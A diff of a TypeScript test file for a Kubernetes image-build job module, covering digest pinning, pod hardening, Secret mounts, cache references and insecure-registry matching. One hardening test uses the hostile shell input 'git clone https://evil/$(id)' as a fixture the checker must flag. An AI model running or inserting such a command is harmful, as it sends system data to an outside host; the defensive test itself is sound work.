@@ -2,16 +2,20 @@ import { manifestSpec } from '../../test/support/build-specs.js';
 import type { V1Job } from '@kubernetes/client-node';
 
 import type { BuildSpec, SpecContext } from './build-spec.js';
-import { GIT_IMAGE, isPinnedByDigest, KANIKO_IMAGE } from './images.js';
+import { BUILDKIT_IMAGE, GIT_IMAGE, isPinnedByDigest, KANIKO_IMAGE } from './images.js';
 import {
   buildObjectName,
+  cacheReference,
   contextDirectory,
   DEFAULT_JOB_SETTINGS,
   hardeningProblems,
   type JobContext,
+  jobOf,
+  type JobPlan,
+  onInsecureRegistry,
+  SOURCE_SECURITY_CONTEXT,
 } from './job.js';
 import { kaniko } from './kaniko.js';
-import { BUILD_METHODS } from './methods.js';
 import type { MethodName } from './types.js';
 
 const specContext: SpecContext = {
@@ -49,33 +53,19 @@ function goodJob(): V1Job {
   return structuredClone(translation.job);
 }
 
-describe('methods without a Job yet', () => {
-  it.each<[MethodName, BuildSpec]>([
-    ['buildx', specOf('buildx', { dockerfile: 'FROM scratch\n' })],
-    [
-      'paketo',
-      specOf('paketo', { paketo_config: { builder: 'paketobuildpacks/builder-jammy-base' } }),
-    ],
-    ['packer', specOf('packer', { packer_template: 'source "null" "x" {}' })],
-  ])('%s answers unsupported, pointing at the local runner', (method, spec) => {
-    expect(BUILD_METHODS[method].jobSpec(spec, jobContext)).toEqual({
-      kind: 'unsupported',
-      reason: `${method} builds cannot run on Kubernetes yet; use the local runner`,
-    });
-  });
-});
-
 describe('DEFAULT_JOB_SETTINGS', () => {
   it('pins every image by digest', () => {
     expect([
       ...Object.values(DEFAULT_JOB_SETTINGS.builderImages),
       DEFAULT_JOB_SETTINGS.gitImage,
-    ]).toEqual([KANIKO_IMAGE, GIT_IMAGE]);
+    ]).toEqual([KANIKO_IMAGE, BUILDKIT_IMAGE, GIT_IMAGE]);
     expect(isPinnedByDigest(KANIKO_IMAGE)).toBe(true);
+    expect(isPinnedByDigest(BUILDKIT_IMAGE)).toBe(true);
     expect(isPinnedByDigest(GIT_IMAGE)).toBe(true);
   });
 
-  it('names no credentials, service account or insecure registry', () => {
+  it('names no credentials, service account, insecure registry or paketo run image', () => {
+    expect(DEFAULT_JOB_SETTINGS.paketoRunImages).toBeUndefined();
     expect(DEFAULT_JOB_SETTINGS.credentialsSecret).toBeUndefined();
     expect(DEFAULT_JOB_SETTINGS.serviceAccountName).toBeUndefined();
     expect(DEFAULT_JOB_SETTINGS.insecureRegistries).toEqual([]);
@@ -217,12 +207,176 @@ describe(hardeningProblems.name, () => {
           '-c',
           'git clone https://evil/$(id)',
         ]),
-      "container source: a shell runs a script other than kiln's constant source script",
+      "container source: a shell runs a script other than kiln's constant scripts",
     ],
   ])('reports %s', (_name, breakIt, problem) => {
     const job = goodJob();
     breakIt(job);
 
     expect(hardeningProblems(job)).toEqual([problem]);
+  });
+});
+
+describe(jobOf.name, () => {
+  const spec = specOf('kaniko', { dockerfile: 'FROM scratch\n' });
+  const plain: JobPlan = {
+    builder: {
+      image: KANIKO_IMAGE,
+      command: ['/bin/true'],
+      args: [],
+      env: [],
+      securityContext: { runAsUser: 1000 },
+      dockerConfigDir: '/docker',
+    },
+    files: { Dockerfile: 'FROM scratch\n', NAME: 'value' },
+    notes: [],
+  };
+
+  function translate(plan: Partial<JobPlan>, context: Partial<JobContext> = {}) {
+    const translation = jobOf(spec, { ...jobContext, ...context }, { ...plain, ...plan });
+    if (translation.kind !== 'job') throw new Error(translation.reason);
+    const pod = translation.job.spec!.template.spec!;
+    return { translation, pod, builder: pod.containers[0]!, source: pod.initContainers![0]! };
+  }
+
+  it('adds nothing for a plan without the optional parts', () => {
+    const { translation, pod, builder, source } = translate({});
+
+    expect(pod.securityContext).toEqual({ seccompProfile: { type: 'RuntimeDefault' } });
+    expect(pod.volumes?.map((volume) => volume.name)).toEqual([
+      'workspace',
+      'source-tmp',
+      'dockerfile',
+    ]);
+    expect(builder.volumeMounts?.map((mount) => mount.name)).toEqual(['workspace', 'dockerfile']);
+    expect(source.securityContext).toEqual(SOURCE_SECURITY_CONTEXT);
+    expect(translation).not.toHaveProperty('secretKeys');
+  });
+
+  it('adds pod security fields but keeps the RuntimeDefault seccomp profile', () => {
+    const { translation, pod } = translate({
+      podSecurityContext: { fsGroup: 1000, runAsNonRoot: true },
+    });
+
+    expect(pod.securityContext).toEqual({
+      fsGroup: 1000,
+      runAsNonRoot: true,
+      seccompProfile: { type: 'RuntimeDefault' },
+    });
+    expect(hardeningProblems(translation.job)).toEqual([]);
+  });
+
+  it('clones as the user the plan names, keeping every other restriction', () => {
+    const { source } = translate({ sourceUser: { runAsUser: 1001, runAsGroup: 1000 } });
+
+    expect(source.securityContext).toEqual({
+      ...SOURCE_SECURITY_CONTEXT,
+      runAsUser: 1001,
+      runAsGroup: 1000,
+    });
+  });
+
+  it('mounts chosen ConfigMap keys one by one as plain files', () => {
+    const { builder } = translate({
+      fileMounts: [{ key: 'NAME', mountPath: '/platform/env/NAME' }],
+    });
+
+    expect(builder.volumeMounts).toContainEqual({
+      name: 'dockerfile',
+      mountPath: '/platform/env/NAME',
+      subPath: 'NAME',
+      readOnly: true,
+    });
+  });
+
+  it('mounts only the named keys of the build Secret, read-only, mode 0400, and lists them', () => {
+    const { translation, pod, builder } = translate(
+      { buildSecretKeys: ['build-secret.npm'] },
+      { buildSecretName: 'kiln-b1' },
+    );
+
+    expect(pod.volumes).toContainEqual({
+      name: 'build-secrets',
+      secret: {
+        secretName: 'kiln-b1',
+        items: [{ key: 'build-secret.npm', path: 'build-secret.npm' }],
+        defaultMode: 0o400,
+      },
+    });
+    expect(builder.volumeMounts).toContainEqual({
+      name: 'build-secrets',
+      mountPath: '/kiln/build-secrets',
+      readOnly: true,
+    });
+    expect(translation.secretKeys).toEqual(['build-secret.npm']);
+  });
+
+  it('refuses build secrets when there is no build Secret to mount them from', () => {
+    expect(jobOf(spec, jobContext, { ...plain, buildSecretKeys: ['build-secret.npm'] })).toEqual({
+      kind: 'unsupported',
+      reason: 'this build has secrets, but the operator gave it no build Secret to mount them from',
+    });
+  });
+
+  it('gives a pushing builder an output directory and scratch volumes of its own', () => {
+    const { pod, builder } = translate({
+      pushedImage: { format: 'cnb-report', file: '/kiln/out/report.toml' },
+      scratchVolumes: [{ name: 'layers', mountPath: '/layers' }],
+    });
+
+    expect(pod.volumes).toEqual(
+      expect.arrayContaining([
+        { name: 'kiln-out', emptyDir: {} },
+        { name: 'layers', emptyDir: {} },
+      ]),
+    );
+    expect(builder.volumeMounts).toEqual(
+      expect.arrayContaining([
+        { name: 'kiln-out', mountPath: '/kiln/out' },
+        { name: 'layers', mountPath: '/layers' },
+      ]),
+    );
+  });
+});
+
+describe(cacheReference.name, () => {
+  it.each<[string, Record<string, unknown>, string | undefined]>([
+    ['the cache repository, tagged', { cache_repo: 'reg.io/team/cache' }, 'reg.io/team/cache:t'],
+    [
+      'a cache reference with its own tag',
+      { cache_repo: 'reg.io/team/cache:x' },
+      'reg.io/team/cache:x',
+    ],
+    ['a repository on a port', { cache_repo: 'reg.io:5000/cache' }, 'reg.io:5000/cache:t'],
+    ['beside the output repository', {}, 'reg.io/team/app/cache:t'],
+  ])('uses %s', (_name, config, reference) => {
+    const cached = specOf('kaniko', {
+      dockerfile: 'FROM scratch\n',
+      registry_repository: 'reg.io/team/app',
+      ...config,
+    });
+
+    expect(cacheReference(cached, 't')).toBe(reference);
+  });
+
+  it('has none without a repository to keep it in', () => {
+    const spec = specOf('kaniko', { dockerfile: 'FROM scratch\n' });
+
+    expect(cacheReference({ ...spec, output: { ...spec.output, repository: null } }, 't')).toBe(
+      undefined,
+    );
+  });
+});
+
+describe(onInsecureRegistry.name, () => {
+  const settings = { ...DEFAULT_JOB_SETTINGS, insecureRegistries: ['127.0.0.1:5000'] };
+
+  it.each([
+    ['127.0.0.1:5000/team/app:1', true],
+    ['127.0.0.1:5000', false],
+    ['reg.io/127.0.0.1:5000/app', false],
+    ['127.0.0.1:5001/team/app', false],
+  ])('%s → %s', (reference, insecure) => {
+    expect(onInsecureRegistry(reference, settings)).toBe(insecure);
   });
 });
